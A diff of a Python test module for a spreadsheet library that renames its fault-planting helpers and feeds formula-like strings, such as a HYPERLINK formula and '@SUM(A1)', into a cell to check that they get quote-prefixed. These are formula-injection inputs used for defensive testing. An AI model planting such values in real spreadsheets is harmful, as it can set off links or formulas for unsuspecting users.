@@ -719,28 +721,28 @@ QUOTED = ("styles.xml", ' quotePrefix="1"', "")
 
 
 def dangerous(text: str) -> Callable[[Workbook], object]:
-    def sow(book: Workbook) -> None:
+    def make(book: Workbook) -> None:
         from xlipo.sheetkit.cells import safe_text
 
         put(book["Cover"], "A12", safe_text(text))
 
-    return sow
+    return make
 
 
 for text in ('=HYPERLINK("http://x")', "+1 212 555", "-profit", "@SUM(A1)", "\tx"):
-    sow("text-like-formula", "Cover!A12", dangerous(text), QUOTED)
+    inject("text-like-formula", "Cover!A12", dangerous(text), QUOTED)
 
 
-def by_rule() -> dict[str, list[Plant]]:
-    """The plants of each rule."""
-    found: dict[str, list[Plant]] = {}
-    for each in PLANTS:
+def by_rule() -> dict[str, list[Fault]]:
+    """The faults of each rule."""
+    found: dict[str, list[Fault]] = {}
+    for each in FAULTS:
         found.setdefault(each.rule, []).append(each)
     return found
 
 
-def named() -> Iterator[tuple[str, Plant]]:
-    """Every plant with a name for the test's report."""
-    for rule, plants in by_rule().items():
-        for number, each in enumerate(plants, 1):
+def named() -> Iterator[tuple[str, Fault]]:
+    """Every fault with a name for the test's report."""
+    for rule, faults in by_rule().items():
+        for number, each in enumerate(faults, 1):
             yield f"{rule}-{number}", each
